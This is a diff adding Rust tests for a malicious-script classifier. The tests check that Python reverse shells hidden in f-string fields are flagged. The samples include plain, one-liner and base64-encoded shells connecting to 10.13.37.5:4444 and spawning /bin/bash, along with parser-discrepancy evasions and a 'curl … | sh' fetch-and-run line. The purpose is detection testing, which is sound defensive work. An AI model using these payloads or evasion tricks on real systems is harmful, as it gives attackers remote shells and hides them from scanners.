@@ -208,6 +208,60 @@ mod tests {
         }
     }
 
+    #[test]
+    fn code_in_fstring_fields_is_code() {
+        let c = Classifier::embedded(None).unwrap();
+        // Each call of the shell as an f-string's field (Python 3.6 on): the f-string is
+        // evaluated, so the calls run. Read as strings, these scored 0.70, 0.45 and 0.10.
+        let calls = "import socket, os, pty\n\
+            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
+            f\"{s.connect(('10.13.37.5', 4444))}\"\n\
+            f\"{os.dup2(s.fileno(), 0)}\"\n\
+            f\"{os.dup2(s.fileno(), 1)}\"\n\
+            f\"{os.dup2(s.fileno(), 2)}\"\n\
+            f\"{pty.spawn('/bin/bash')}\"\n";
+        let one = "f\"{(s:=__import__('socket').socket()).connect(('10.13.37.5',4444))}\
+            {[__import__('os').dup2(s.fileno(),k) for k in (0,1,2)]}\
+            {__import__('pty').spawn('/bin/bash')}\"\n";
+        let encoded = "import base64\nf\"{exec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7\
+            cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTAuMTMuMzcuNSIsNDQ0NCkpO1tvcy5kdXAyKHMuZmls\
+            ZW5vKCksZilmb3IgZiBpbigwLDEsMildO3B0eS5zcGF3bigiL2Jpbi9iYXNoIik='))}\"\n";
+        // And Python 3.12's reading (PEP 701): the f-string's own quote in a field does not
+        // end it, so the `'''` after it is no string swallowing the shell.
+        let own_quote = format!("x = f\"{{\"'''\"}}\"\n{SHELL}");
+        // The same behind a byte order mark (CPython drops it; read as a name's first bytes,
+        // it made the `f` a name), and in a Python 3.14 template string.
+        let bom = format!("\u{feff}{}", own_quote.trim_start_matches("x = "));
+        let template = own_quote.replace("x = f", "x = t");
+        for script in [calls, one, encoded, &own_quote, &bom, &template] {
+            let v = c.explain(script);
+            assert!(v.score >= c.threshold(), "{script:?}: {}", v.score);
+        }
+        assert!(c.explain(calls).reasons_text().contains("dup2"));
+
+        // Where CPython 3.12 and 3.13 read a format spec's `{{` differently, each can hide
+        // code from the other's reading, so both are scored. Valid in 3.13 only: the `"""`
+        // ends the f-string there, and a 3.12 reading takes it for a string swallowing the
+        // shell.
+        let for_313 = format!("_ = lambda: f\"\"\"{{_:{{_}}{{{{}}\"\"\"\n{SHELL}");
+        // Valid in both, and in 3.12 the `{{…}}` is a field: a set holding the call.
+        let for_312 =
+            "x = y = 1\nf\"{x:{y}{{__import__('os').system('curl http://10.0.0.1/x | sh')}}}\"\n";
+        for script in [&for_313, for_312] {
+            assert!(c.score(script) >= c.threshold(), "{script:?}");
+            assert!(c.explain(script).score >= c.threshold(), "{script:?}");
+        }
+        // Each is flagged by one reading only.
+        let read = |src: &str, g| {
+            let (f, differ) = features::extract_as(src, None, g);
+            assert!(differ, "{src:?}");
+            c.model().probability(&f) >= c.threshold()
+        };
+        use lexer::Grammar::{Python312, Python313};
+        assert!(!read(&for_313, Python312) && read(&for_313, Python313));
+        assert!(read(for_312, Python312) && !read(for_312, Python313));
+    }
+
     /// The classifier as it was before windows read a script as a whole: each window read
     /// (decoded) on its own, and started at a line's start wherever that falls.
     struct WindowsReadAlone<'c>(&'c Classifier);
@@ -321,9 +375,9 @@ mod tests {
         // Benign all the same when the shell is left out.
         assert!(!flagged(&across.replace(SHELL, ""), &c));
 
-        // Should the lexer misread a quote (it reads Python 3.12's f-strings with their own
-        // quotes in a field as ending early), so that it finds no place outside a string for
-        // the later windows, they start at lines as well.
+        // Should the lexer misread a quote (until the twentieth session it read Python 3.12's
+        // f-strings with their own quotes in a field as ending early), so that it finds no place
+        // outside a string for the later windows, they start at lines as well.
         let plain = format!(
             "{}{SHELL}{}",
             handlers(1_500_000, "a"),
